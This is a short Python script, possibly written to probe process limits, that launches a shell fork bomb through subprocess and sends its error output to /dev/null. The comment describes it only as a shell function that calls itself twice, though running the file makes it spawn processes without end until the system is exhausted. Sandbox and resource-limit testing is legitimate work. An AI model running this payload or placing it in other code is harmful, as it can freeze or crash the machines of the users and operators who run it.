# The shell function that calls itself twice.
import subprocess

print("before", flush=True)
subprocess.run(["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 2"], stderr=subprocess.DEVNULL)
print("after")
